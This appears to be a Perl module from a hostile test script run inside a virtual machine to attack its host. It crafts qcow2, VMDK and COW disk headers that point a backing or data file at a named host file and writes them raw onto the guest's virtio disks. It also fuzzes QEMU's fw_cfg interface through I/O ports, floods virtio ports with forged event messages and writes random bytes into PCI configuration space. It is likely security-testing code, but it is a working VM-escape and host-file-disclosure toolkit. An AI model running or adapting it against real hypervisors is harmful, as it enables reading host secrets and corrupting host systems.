# Through the virtual machine's own devices: disks, firmware, ports. A part of hostile.pl.
use strict;
use warnings;
use Fcntl;

# The first kilobyte of an image that would open @_, in formats that name a file of the host.
sub qcow2 {
    my ($secret, $is_data) = @_;
    my $text = $is_data ? '' : $secret;
    my $h = pack('A4 N Q> N N Q> N N Q> Q> N N Q> Q> Q> Q> N N', "QFI\xfb", 3, length $text ? 512 : 0, length $text, 16, 1 << 30, 0, 1,
                 0x30000, 0x10000, 1, 0, 0, $is_data ? 4 : 0, 0, 0, 4, 104);
    $h .= pack('N N a8', 0xe2792aca, 3, 'raw') if !$is_data;
    $h .= pack('N N a*', 0x44415441, length $secret, $secret) . "\0" x (-length($secret) % 8) if $is_data;
    return pack('a512 a512', $h, $text);
}

sub vmdk { return pack 'a1024', "# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\nRW 2048 FLAT \"$_[0]\" 0\n" }
sub cow { return pack 'a4 N a1016', 'OOOM', 2, $_[0] }

# Writes that past the file systems, where these leave room.
sub attack_disks {
    my ($secret, $how) = @_;
    my $head = {backing => sub { qcow2($secret, 0) }, data => sub { qcow2($secret, 1) }, vmdk => sub { vmdk($secret) }, cow => sub { cow($secret) }}->{$how}->();
    for my $name (qw(os data emulators)) {
        my ($disk) = glob "/dev/disk/by-id/virtio-$name";
        my $f;
        my $done = $disk && sysopen($f, $disk, O_WRONLY | O_SYNC) && (syswrite($f, $head) // 0) == length $head;
        try("$how onto $name", $done);
    }
    run('sync');
}

# What a driver never writes.
sub attack_devices {
    my ($seconds) = @_;
    my $until = time + $seconds;
    if (open my $port, '+<', '/dev/port') { # fw_cfg: selector, data, DMA
        for my $key (0 .. 0x40, map { $_ | 0x4000 } 0 .. 0x40) {
            sysseek $port, 0x510, 0;
            syswrite $port, pack 'v', $key;
            for (1 .. 8) { sysseek $port, 0x511, 0; syswrite $port, chr int rand 256 }
        }
        for (1 .. 64) { sysseek $port, 0x514, 0; syswrite $port, pack 'N N', 0, int rand 2**30 }
        try("fw_cfg", 0);
    }
    for my $file (glob('/sys/firmware/qemu_fw_cfg/by_name/*/*/*/raw'), glob '/sys/firmware/qemu_fw_cfg/by_key/*/raw') {
        spill($file, 'x' x 64);
    }
    for my $vport (glob '/dev/vport*') {
        my $child = fork // next;
        if (!$child) { sysopen my $f, $vport, O_WRONLY | O_NONBLOCK; while (time < $until) { syswrite $f, "{\"event\":\"ready\"}\n\e[31m" x 512 or pause(0.01) } exit }
    }
    my $sent = 0;
    for my $config (glob '/sys/bus/pci/devices/*/config') {
        sysopen my $f, $config, O_RDWR or next;
        for (1 .. 200) { sysseek $f, 64 + int rand 192, 0; $sent += syswrite($f, chr int rand 256) // 0 }
    }
    print "$sent bytes into the devices' configuration\n";
    pause($until - time) if time < $until;
}

1;
